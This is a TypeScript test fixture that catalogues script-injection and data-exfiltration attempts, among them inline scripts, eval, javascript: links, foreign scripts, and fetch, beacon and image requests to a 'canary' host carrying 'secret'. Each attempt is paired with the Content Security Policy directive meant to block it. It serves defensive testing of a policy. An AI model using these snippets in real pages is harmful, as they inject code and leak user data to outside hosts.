/**
 * What injected markup or script would try, each with the directive of the policy that must stop it. The
 * functions run in the page, after the driver's own evaluation is over, which would be exempt from the policy.
 */
export type PageAttack = {
  readonly name: string;
  readonly directive: string;
  /** `canary` is the origin of a server that counts. Success sets `globalThis.ran`. */
  readonly run: (canary: string) => void;
};

export const pageAttacks: readonly PageAttack[] = [
  {
    name: 'inline script',
    directive: 'script-src-elem',
    run: () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.ran = "inline script"';
      document.body.append(script);
    },
  },
  {
    name: 'inline event handler',
    directive: 'script-src-attr',
    run: () => {
      const image = document.createElement('img');
      image.setAttribute('onerror', 'globalThis.ran = "handler"');
      image.src = 'data:image/png;base64,AAAA';
      document.body.append(image);
    },
  },
  {
    name: 'javascript: link',
    directive: 'script-src-elem',
    run: () => {
      const link = document.createElement('a');
      link.href = 'javascript:globalThis.ran="link"';
      document.body.append(link);
      link.click();
    },
  },
  { name: 'eval', directive: 'script-src', run: () => void (0, eval)('globalThis.ran = "eval"') },
  {
    name: 'Function',
    directive: 'script-src',
    run: () => void new Function('globalThis.ran = "Function"')(),
  },
  {
    name: 'setTimeout of text',
    directive: 'script-src',
    run: () => (setTimeout as (code: string) => void)('globalThis.ran = "timer"'),
  },
  {
    name: 'WebAssembly',
    directive: 'script-src',
    run: () => {
      void new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
      Object.assign(globalThis, { ran: 'wasm' });
    },
  },
  {
    name: 'foreign script',
    directive: 'script-src-elem',
    run: (canary) => {
      const script = document.createElement('script');
      script.src = `${canary}/x.js`;
      document.body.append(script);
    },
  },
  {
    name: 'data: script',
    directive: 'script-src-elem',
    run: () => {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,globalThis.ran="data"';
      document.body.append(script);
    },
  },
  {
    name: 'blob: script',
    directive: 'script-src-elem',
    run: () => {
      const script = document.createElement('script');
      script.src = URL.createObjectURL(new Blob(['globalThis.ran = "blob"']));
      document.body.append(script);
    },
  },
  {
    name: 'import of a foreign module',
    directive: 'script-src-elem',
    run: (canary) => {
      const script = document.createElement('script');
      script.type = 'module';
      script.src = `${canary}/module.js`;
      document.body.append(script);
    },
  },
  {
    name: 'fetch',
    directive: 'connect-src',
    run: (canary) => void fetch(`${canary}/fetch`).catch(() => undefined),
  },
  {
    name: 'fetch without cors',
    directive: 'connect-src',
    run: (canary) =>
      void fetch(`${canary}/opaque`, { mode: 'no-cors', method: 'POST' }).catch(() => undefined),
  },
  {
    name: 'XMLHttpRequest',
    directive: 'connect-src',
    run: (canary) => {
      const request = new XMLHttpRequest();
      request.open('GET', `${canary}/xhr`);
      request.send();
    },
  },
  {
    name: 'WebSocket',
    directive: 'connect-src',
    run: (canary) => void new WebSocket(canary.replace('http', 'ws')),
  },
  {
    name: 'EventSource',
    directive: 'connect-src',
    run: (canary) => void new EventSource(`${canary}/events`),
  },
  {
    name: 'beacon',
    directive: 'connect-src',
    run: (canary) => void navigator.sendBeacon(`${canary}/beacon`, 'secret'),
  },
  {
    name: 'foreign image',
    directive: 'img-src',
    run: (canary) => {
      new Image().src = `${canary}/pixel.png?secret`;
    },
  },
  {
    name: 'foreign background image',
    directive: 'img-src',
    run: (canary) => {
      document.body.style.backgroundImage = `url(${canary}/background.png)`;
    },
  },
  {
    name: 'foreign style sheet',
    directive: 'style-src-elem',
    run: (canary) => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = `${canary}/style.css`;
      document.head.append(link);
    },
  },
  {
    name: 'foreign font',
    directive: 'font-src',
    run: (canary) => void new FontFace('x', `url(${canary}/font.woff2)`).load().catch(() => undefined),
  },
  {
    name: 'foreign video',
    directive: 'media-src',
    run: (canary) => {
      const video = document.createElement('video');
      video.src = `${canary}/video.mp4`;
      document.body.append(video);
    },
  },
  {
    name: 'foreign frame',
    directive: 'frame-src',
    run: (canary) => {
      const frame = document.createElement('iframe');
      frame.src = `${canary}/frame.html`;
      document.body.append(frame);
    },
  },
  {
    name: 'data: frame',
    directive: 'frame-src',
    run: () => {
      const frame = document.createElement('iframe');
      frame.src = 'data:text/html,<script>parent.postMessage("x")</script>';
      document.body.append(frame);
    },
  },
  {
    name: 'object',
    directive: 'object-src',
    run: (canary) => {
      const object = document.createElement('object');
      object.data = `${canary}/object.html`;
      document.body.append(object);
    },
  },
  {
    name: 'embed',
    directive: 'object-src',
    run: (canary) => {
      const embed = document.createElement('embed');
      embed.src = `${canary}/embed.html`;
      document.body.append(embed);
    },
  },
  {
    name: 'blob: worker',
    directive: 'worker-src',
    run: () => void new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
  },
  {
    name: 'foreign form',
    directive: 'form-action',
    run: (canary) => {
      const form = document.createElement('form');
      form.action = `${canary}/form`;
      form.method = 'post';
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: 'base',
    directive: 'base-uri',
    run: (canary) => {
      const base = document.createElement('base');
      base.href = canary;
      document.head.append(base);
    },
  },
];
